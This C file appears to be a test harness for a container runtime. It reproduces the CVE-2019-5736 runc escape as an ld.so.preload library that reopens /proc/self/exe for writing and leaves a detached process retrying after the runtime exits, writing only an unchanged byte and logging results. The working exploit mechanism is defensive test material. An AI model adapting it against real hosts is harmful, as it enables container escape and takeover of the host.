/* CVE-2019-5736 attack, as an image would carry it: an ld.so.preload library that runs in
 * every dynamic program the container executes. When the program is the runtime's own binary
 * (reached through /bin/evil -> /proc/self/exe, or a script starting #!/proc/self/exe), it
 * takes a handle to /proc/self/exe, tries to reopen it for writing at once, and leaves a
 * process behind that keeps trying for a few seconds after the runtime process is gone (the
 * moment ETXTBSY stops protecting the file). Each attempt's outcome goes to /out/report:
 *   exe <comm>            which program the library found itself in
 *   now ok|<errno name>   the immediate reopen for writing
 *   late ok|<errno name>  the last try of the process left behind (ok: it wrote a byte)
 * The "write" appends nothing and changes no byte: it rewrites the file's first byte with
 * itself, so even a successful attack leaves the binary as it was (the test still fails). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void report(const char *what, int err) {
    int fd = open("/out/report", O_WRONLY | O_APPEND | O_CREAT, 0644);
    if (fd < 0)
        return;
    dprintf(fd, "%s %s\n", what, err ? strerrorname_np(err) : "ok");
    close(fd);
}

/* Reopens the file behind `fd` for writing through its /proc/self/fd link and rewrites its
 * first byte unchanged. Returns 0 or the errno. */
static int try_write(int fd) {
    char path[64];
    unsigned char b;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w < 0)
        return errno;
    int err = 0;
    if (pread(fd, &b, 1, 0) != 1 || pwrite(w, &b, 1, 0) != 1)
        err = errno ? errno : EIO;
    close(w);
    return err;
}

__attribute__((constructor)) static void attack(void) {
    char comm[32] = {0};
    int c = open("/proc/self/comm", O_RDONLY);
    if (c >= 0) {
        ssize_t n = read(c, comm, sizeof comm - 1);
        if (n > 0 && comm[n - 1] == '\n')
            comm[n - 1] = 0;
        close(c);
    }
    {
        char line[64];
        snprintf(line, sizeof line, "exe %s", comm);
        int fd = open("/out/report", O_WRONLY | O_APPEND | O_CREAT, 0644);
        if (fd >= 0) {
            dprintf(fd, "%s\n", line);
            close(fd);
        }
    }
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        report("open", errno);
        return;
    }
    report("now", try_write(fd));
    pid_t p = fork();
    if (p != 0) {
        close(fd);
        return;
    }
    /* The process left behind: detached from the program, which goes on and exits. */
    setsid();
    int err = EAGAIN;
    for (int i = 0; i < 40; i++) {
        usleep(100 * 1000);
        err = try_write(fd);
        if (err == 0)
            break;
    }
    report("late", err);
    _exit(0);
}
